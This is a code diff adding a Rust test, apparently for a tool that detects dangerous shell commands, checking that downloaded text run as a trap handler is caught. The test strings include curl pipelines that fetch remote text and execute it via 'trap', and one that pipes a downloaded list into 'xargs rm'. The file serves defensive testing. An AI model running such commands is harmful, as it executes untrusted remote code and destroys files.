@@ -467,6 +467,17 @@ fn inject_python3_runs_a_downloaded_script_file() {
 }
 
 #[test]
+fn inject_downloaded_text_as_a_trap_handler() {
+    // A trap handler runs later as code: downloaded text may not become one.
+    injection(
+        r#"curl -s {URL}/cmd.txt | { read -r c; trap "$c" EXIT; }"#,
+        FLOW,
+        r#"printf 'touch pwned\n' > c.txt; { read -r c; trap "$c" EXIT; } < c.txt"#,
+        pwned_created,
+    );
+}
+
+#[test]
 fn inject_xargs_rm_over_a_downloaded_list() {
     injection(
         "curl -s {URL}/list.txt | xargs rm",
